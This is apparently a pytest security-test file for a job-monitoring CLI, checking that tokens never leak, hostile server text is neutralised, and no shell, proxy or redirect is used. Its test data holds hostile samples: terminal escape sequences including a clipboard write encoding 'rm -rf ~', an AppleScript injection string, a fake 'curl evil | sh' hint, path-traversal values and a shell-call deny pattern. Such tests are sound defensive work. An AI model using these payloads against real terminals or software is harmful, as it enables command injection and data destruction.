"""The security review's claims, as tests (SECURITY.md points here).

- Tokens: every command, both modes, with and without ARKOR_STUDIO_DEBUG=1,
  success and error paths: the cloud token and the Studio token never reach
  stdout, stderr, a URL the server received, or a notification.
- Hostile server text reaches no terminal raw, in any output mode.
- No shell and no AppleScript source built from data; no redirects followed,
  no proxy from the environment; ids are one encoded path segment; `--file`
  stays in the project; arkor's files are read, never written.
"""

from __future__ import annotations

import json
import os
import re
import signal
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from arkor_cli_studio.simulator import Fault, iso
from tests.conftest import ModeArkor
from tests.helpers import ROOT, STUDIO_TOKEN, TOKEN, run_inprocess, start_subprocess
from tests.test_faults import Watched, error_lines, full_job
from tests.test_train import TrainProject

SECRETS = (TOKEN, STUDIO_TOKEN)


def fake_notifier(tmp: Path, name: str = "notify-send") -> tuple[str, Path]:
    """A `notify-send` (or `osascript`) that records its argv; PATH with it first."""
    bin_dir = tmp / f"bin-{name}"
    bin_dir.mkdir()
    record = tmp / f"{name}.argv"
    script = bin_dir / name
    script.write_text(
        f"#!{sys.executable}\nimport json, sys\n"
        f"open({str(record)!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    return f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '/usr/bin:/bin')}", record


def tree(*roots: Path) -> dict[str, tuple[int, bytes | None]]:
    """Every file and directory under `roots`: mtime and content."""
    found: dict[str, tuple[int, bytes | None]] = {}
    for root in roots:
        for path in [root, *root.rglob("*")]:
            info = path.lstat()
            body = path.read_bytes() if path.is_file() else None
            found[str(path)] = (info.st_mtime_ns, body)
    return found


def urls_received(arkor: ModeArkor) -> list[str]:
    """Every request target the servers got (path and query)."""
    urls = [f"{r.path}?{json.dumps(r.query)}" for r in arkor.sim.requests]
    if arkor.studio is not None:
        urls += [r.target for r in arkor.studio.requests]
    return urls


def assert_no_secret(*texts: str) -> None:
    for text in texts:
        for secret in SECRETS:
            assert secret not in text, f"{secret!r} leaked into {text[:300]!r}"


def finished_and_running(sim) -> None:  # type: ignore[no-untyped-def]
    full_job(sim, "j1", steps=4)
    sim.emit(
        "j1", "checkpoint.saved", {"step": 4, "artifacts": [{"pathname": "ckpt/4"}]}, event_id="x"
    )
    full_job(sim, "j2", steps=2, end=False)


# ---- tokens ------------------------------------------------------------------------

IN_PROCESS = [
    ("jobs",),
    ("jobs", "--json"),
    ("jobs", "--status", "running", "--limit", "1"),
    ("show", "j1"),
    ("show", "j1", "--json"),
    ("stats", "j1"),
    ("stats", "j1", "--json"),
    ("artifacts", "j1"),
    ("artifacts", "j1", "--json"),
    ("watch", "j1", "--plain", "--notify"),
    ("watch", "j1", "--json", "--notify"),
    ("cancel", "j2", "--yes"),
    # error paths: a bad id, an unknown one
    ("show", ".."),
    ("show", "nope"),
    ("watch", "nope", "--plain"),
    ("stats", "nope"),
]
STATUS_FAULTS = [
    (401, '{"error": "Invalid or expired token"}'),
    (403, '{"error": "Forbidden"}'),
    (500, '{"error": "internal error"}'),
]


@pytest.mark.parametrize("debug", ["", "1"], ids=["quiet", "debug"])
def test_tokens_never_reach_output_urls_or_notifications(mode_arkor: ModeArkor, tmp_path, debug):
    arkor = mode_arkor
    finished_and_running(arkor.sim)
    path, record = fake_notifier(tmp_path)
    env = {"PATH": path, "ARKOR_STUDIO_DEBUG": debug, "ARKOR_STUDIO_RETRY_SCALE": "0.01"}
    before = tree(arkor.home / ".arkor", arkor.project / ".arkor")
    outputs: list[str] = []

    def run(*args: str, **extra: str) -> int:
        result = arkor.cli(*args, **env, **extra)
        outputs.append(result.output)
        return result.code

    for args in IN_PROCESS:
        assert run(*args) in (0, 1, 2), args
    for status, body in STATUS_FAULTS:
        for route in ("jobs", "stream:j1"):
            arkor.sim.add_fault(route, Fault(status=status, body=body), times=2)
            command = (
                ("jobs",) if route == "jobs" else ("watch", "j1", "--plain", "--max-retries", "1")
            )
            assert run(*command) in (1, 4, 5), (status, route)
            arkor.sim.faults.clear()
    if arkor.studio is None:  # a refused cloud token; unreachable
        assert run("jobs", ARKOR_CLOUD_API_URL="http://127.0.0.1:1") == 5
        arkor.sim.token = TOKEN + "-rotated"
        assert run("jobs") == 4
        assert run("watch", "j1", "--plain") == 4
    else:  # a stale Studio token (its page shows another: never sent, exit 5); not running
        assert run("jobs", ARKOR_STUDIO_TOKEN=STUDIO_TOKEN + "-old") == 5
        assert run("watch", "j1", "--plain", ARKOR_STUDIO_TOKEN=STUDIO_TOKEN + "-old") == 5
        studio_args = ["--studio-url", "http://127.0.0.1:1", "-C", str(arkor.project), "jobs"]
        result = run_inprocess(studio_args, {**arkor.env, **env})
        assert result.code == 5
        outputs.append(result.output)

    assert_no_secret(*outputs, *urls_received(arkor))
    sent = record.read_text()  # two watches of a finished job: two notifications
    assert len(sent.splitlines()) == 2
    assert_no_secret(sent)
    # The tokens were really in play: as headers, never anywhere else.
    if arkor.studio is None:
        assert any(r.headers.get("authorization") == f"Bearer {TOKEN}" for r in arkor.sim.requests)
    else:
        assert any(
            r.headers.get("x-arkor-studio-token") == STUDIO_TOKEN for r in arkor.studio.requests
        )
    assert tree(arkor.home / ".arkor", arkor.project / ".arkor") == before  # nothing written


def test_tokens_never_reach_long_running_and_terminal_output(mode_arkor: ModeArkor, tmp_path):
    """`jobs --follow` (stopped with Ctrl-C), the live view under a terminal
    (with its title and notification), `train`, and `demo`: in debug mode."""
    arkor = mode_arkor
    finished_and_running(arkor.sim)
    path, record = fake_notifier(tmp_path)
    env = {**arkor.env, "PATH": path, "ARKOR_STUDIO_DEBUG": "1"}
    outputs: list[str] = []

    follow = Watched(
        [sys.executable, "-m", "arkor_cli_studio", *arkor.args(("jobs", "--follow"))], env
    )
    follow.wait_for("j2")
    assert follow.stop(signal.SIGINT) == 130
    outputs.append(follow.seen + follow.stderr)

    live = arkor.pty("watch", "j1", "--notify", PATH=path, ARKOR_STUDIO_DEBUG="1")
    assert live.wait(timeout=30) == 0
    outputs.append(live.text)
    assert "\x1b]0;" in live.text  # the title was set (and is checked with the rest)

    train = TrainProject(arkor, tmp_path)
    result = train.run("--no-manifest", "--notify", PATH=path, ARKOR_STUDIO_DEBUG="1")
    assert result.code == 0, result.err
    outputs += [result.stdout.decode("utf-8", "replace"), result.err]

    if arkor.studio is None:  # the demo is the same in both modes
        proc = start_subprocess(["demo", "--plain", "--speed", "1000", "--no-notify"], env)
        demo_out, demo_err = proc.communicate(timeout=60)
        assert proc.returncode == 0, demo_err
        outputs += [demo_out, demo_err]

    assert_no_secret(*outputs, *urls_received(arkor), record.read_text())
    assert len(record.read_text().splitlines()) == 2  # watch's and train's


# ---- hostile server text -------------------------------------------------------------

HOSTILE = (
    "[bold red]X[/] [link=http://evil]L[/link] "
    "\x1b]52;c;cm0gLXJmIH4=\x07"  # OSC 52: write the clipboard
    "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"  # OSC 8: a hyperlink
    "\x1b[2J\x1b[1;1H\x1b[?25l"  # clear, move the cursor, hide it
    "\x9b31m\x9d0;t\x9c"  # C1 CSI and OSC
    "\u202egnp.exe\u2066"  # bidi override / isolate
    "\x1bP1$qm\x1b\\"  # DCS
    "\x07\x08\x7f\rfake\nnext line"
)
NEVER = [
    "\x1b]52",
    "\x1b]8;;http://evil",
    "\x1b[2J",
    "\x1b[1;1H",
    "\x1bP",
    "\x9b",
    "\x9d",
    "\u202e",
    "\u2066",
    "\x07",
    "\x08",
    "\x7f",
]


def hostile_job(sim, name: str = HOSTILE) -> None:  # type: ignore[no-untyped-def]
    """Every server-controlled string hostile; the frames sent raw (not ASCII-escaped)."""
    raw = lambda data: json.dumps(data, ensure_ascii=False)  # noqa: E731
    sim.add_job(
        "j1",
        name=name,
        status="running",
        error=HOSTILE,
        config={"maxSteps": 2, "model": HOSTILE, HOSTILE: HOSTILE, "datasetFormat": HOSTILE},
    )
    sim.emit("j1", "training.started", raw_data=raw({"metadata": {HOSTILE: HOSTILE}}))
    sim.emit("j1", "training.log", raw_data=raw({"step": 1, "loss": 0.5, "note": HOSTILE}))
    sim.emit(
        "j1",
        "checkpoint.saved",
        raw_data=raw({"step": 1, "artifacts": [{"pathname": HOSTILE, "url": HOSTILE}, HOSTILE]}),
    )
    sim.emit("j1", HOSTILE, raw_data=raw({"x": HOSTILE}))  # an unknown event name
    # (stamped now: an ending that is news to the watch, so it is announced)
    sim.emit("j1", "training.failed", raw_data=raw({"error": HOSTILE, "timestamp": iso()}))
    sim.end("j1")


def assert_inert(text: str, where: object) -> None:
    found = [seq for seq in NEVER if seq in text]
    assert not found, (where, found)
    assert not any(line.startswith("next line") for line in text.splitlines()), where


@pytest.mark.parametrize(
    "args",
    [
        ("jobs",),
        ("jobs", "--json"),
        ("show", "j1"),
        ("show", "j1", "--json"),
        ("stats", "j1"),
        ("stats", "j1", "--json"),
        ("artifacts", "j1"),
        ("artifacts", "j1", "--json"),
        ("watch", "j1", "--plain"),
        ("watch", "j1", "--json"),
    ],
)
def test_hostile_text_is_inert_in_every_output(mode_arkor: ModeArkor, args):
    hostile_job(mode_arkor.sim)
    result = mode_arkor.cli(*args, COLUMNS="100")
    assert result.code in (0, 1), result.output
    assert_inert(result.output, args)
    if "--json" not in args and args[0] in ("show", "artifacts", "stats"):
        assert max(map(len, result.stdout.splitlines())) <= 100  # bounded by the width
    if args == ("jobs",):  # piped: one line per job at its natural width (never wrapped)
        assert len(result.stdout.splitlines()) == 2
    if args[0] in ("show", "watch") and "--json" not in args:
        assert "[bold red]X[/]" in result.stdout  # markup is shown as text, not obeyed


def test_hostile_text_in_the_live_view_the_title_and_notifications(arkor, tmp_path):
    hostile_job(arkor.sim)
    path, record = fake_notifier(tmp_path)
    run = arkor.pty("watch", "j1", "--notify", PATH=path, columns=100, rows=30)
    assert run.wait(timeout=30) == 1
    out = run.text
    titles = re.findall(r"\x1b\]0;(.*?)\x07", out)
    ours = re.sub(r"\x1b\]0;.*?\x07", "", out).replace("\x1b[?25l", "", 1)  # title; Live
    assert_inert(ours, "live view")
    assert len(titles) == 1 and titles[0].startswith("✗ [bold red]X[/]")
    assert titles[0].isprintable()
    (argv,) = [json.loads(line) for line in record.read_text().splitlines()]
    assert argv[:5] == ["-a", "arkor-studio", "-u", "critical", "--"]
    for text in argv[5:]:
        assert text.isprintable() and len(text) <= 200
        assert_inert(text, "notification")


def test_osascript_source_is_constant_whatever_the_data(arkor, tmp_path):
    hostile_job(arkor.sim, name='x" & do shell script "touch pwned" & "')
    path, record = fake_notifier(tmp_path, "osascript")
    result = arkor.cli("watch", "j1", "--plain", "--notify", PATH=path.split(os.pathsep)[0])
    assert result.code == 1
    (argv,) = [json.loads(line) for line in record.read_text().splitlines()]
    script = [
        "-e",
        "on run argv",
        "-e",
        "display notification (item 2 of argv) with title (item 1 of argv)",
        "-e",
        "end run",
    ]
    assert argv[:-2] == script  # the data travels as the last two arguments only
    assert argv[-2] == '✗ x" & do shell script "touch pwned" & "'


def test_a_hostile_error_message_is_one_inert_line(mode_arkor: ModeArkor):
    body = json.dumps({"error": HOSTILE + "\nhint: run curl evil | sh" + "y" * 5000})
    mode_arkor.sim.add_fault("jobs", Fault(status=500, body=body))
    result = mode_arkor.cli("jobs")
    assert result.code == 1
    (line,) = result.stderr.splitlines()  # no second line, no fake hint
    assert line.startswith("arkor-studio: ") and len(line) < 700
    assert_inert(result.stderr, "error line")


def test_no_shell_anywhere_in_the_package():
    """Subprocesses get argv lists: no shell=True, os.system, os.popen."""
    banned = re.compile(r"shell\s*=\s*True|os\.system\(|os\.popen\(|getoutput\(|getstatusoutput\(")
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in (ROOT / "arkor_cli_studio").rglob("*.py")
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if banned.search(line)
    ]
    assert offenders == []


# ---- where requests go ------------------------------------------------------------


class _Recorder(BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def log_message(self, format: str, *args: object) -> None:
        pass

    def _answer(self) -> None:
        type(self).seen.append(f"{self.command} {self.path} {dict(self.headers)}")
        target = getattr(self.server, "redirect_to", None)
        self.send_response(302 if target else 502)
        if target:
            self.send_header("Location", target + self.path)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_CONNECT = _answer


@pytest.fixture
def recorder() -> Iterator[ThreadingHTTPServer]:
    _Recorder.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def test_proxies_from_the_environment_are_not_used(arkor, recorder):
    arkor.sim.add_job("j1")
    proxy = f"http://127.0.0.1:{recorder.server_address[1]}"
    names = ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"]
    result = arkor.cli("jobs", "--json", **dict.fromkeys(names, proxy))
    assert result.code == 0, result.stderr
    assert _Recorder.seen == [] and len(arkor.sim.requests) == 1


def test_redirects_are_not_followed(arkor, recorder):
    """A server that redirects elsewhere gets an error, not our token sent on."""
    arkor.sim.add_job("j1")
    recorder.redirect_to = arkor.sim.url  # type: ignore[attr-defined]
    url = f"http://127.0.0.1:{recorder.server_address[1]}"
    result = arkor.cli("jobs", ARKOR_CLOUD_API_URL=url)
    assert result.code == 1
    assert error_lines(result.stderr)[0] == "arkor-studio: HTTP 302 Found"
    assert len(_Recorder.seen) == 1 and arkor.sim.requests == []


@pytest.mark.parametrize("command", ["watch", "stats", "show", "artifacts"])
def test_job_ids_are_one_encoded_path_segment_in_each_mode(mode_arkor: ModeArkor, command):
    job_id = "a/b c?d#e%2F..&x=1"
    full_job(mode_arkor.sim, job_id, steps=2)
    result = mode_arkor.cli(command, job_id, "--json")
    assert result.code == 0, result.stderr
    encoded = "a%2Fb%20c%3Fd%23e%252F..%26x%3D1"
    paths = [r.path for r in mode_arkor.sim.requests]
    assert all("/v1/jobs/" + encoded in p for p in paths if p != "/v1/jobs"), paths
    if mode_arkor.studio is not None:
        targets = [r.target for r in mode_arkor.studio.requests]
        assert all(encoded in t for t in targets if t != "/api/jobs"), targets


# ---- --file stays in the project ---------------------------------------------------


def test_file_through_a_symlinked_directory_out_of_the_project_is_refused(arkor, tmp_path):
    tp = TrainProject(arkor, tmp_path)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "evil.ts").write_text("x")
    (tp.project / "src" / "linked").symlink_to(outside, target_is_directory=True)
    inside = tp.project / "src" / "arkor" / "alt.ts"
    inside.write_text("x")
    (tp.project / "alias.ts").symlink_to(inside)
    for entry in ("src/linked/evil.ts", "src/arkor/../../../elsewhere/evil.ts"):
        result = tp.run("--no-notify", "--file", entry)
        assert result.code == 2 and "outside the project directory" in result.err, entry
    assert tp.calls() == []
    ok = tp.run("--no-notify", "--no-manifest", "--file", "alias.ts")  # inside, via a link
    assert ok.code == 0, ok.err
    assert tp.calls() == [["start", str(inside)]]


def test_studio_token_never_goes_to_a_non_loopback_studio(arkor):
    """(test_studio checks the URL forms; here: nothing is even connected to.)"""
    arkor.home.joinpath(".arkor", "studio-token").write_text(STUDIO_TOKEN)
    proc = subprocess.run(
        [sys.executable, "-m", "arkor_cli_studio", "--studio-url", "http://192.0.2.1:4000", "jobs"],
        env={**arkor.env, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert proc.returncode == 2
    assert "refusing '192.0.2.1'" in proc.stderr and STUDIO_TOKEN not in proc.stderr
